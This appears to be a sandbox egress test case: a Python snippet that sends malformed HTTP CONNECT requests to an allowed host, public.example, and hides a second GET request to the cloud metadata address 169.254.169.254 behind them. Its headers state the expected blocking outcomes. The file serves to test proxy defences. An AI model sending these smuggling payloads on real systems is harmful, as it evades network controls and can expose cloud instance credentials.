# title: hides a second request behind an allowed CONNECT
# harm: learns
# egress: public.example:443
# B: no network at all
# C: one request a connection; a tunnel must be TLS
proxy = 'HTTP_PROXY' in env
inner = b'GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n'
for head in [b'CONNECT public.example:443 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n', b'CONNECT public.example:443 HTTP/1.1\r\nContent-Length: 0\r\n\r\n',
             b'CONNECT public.example:443\r\nX: 169.254.169.254:80 HTTP/1.1\r\n\r\n', b'CONNECT 169.254.169.254:80\tpublic.example:443 HTTP/1.1\r\n\r\n']:
    s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('169.254.169.254', 80), 2); s.settimeout(1)
    s.send(head + inner if proxy else inner)
    try: print(s.recv(4096), s.recv(4096))
    except OSError as e: print(e)
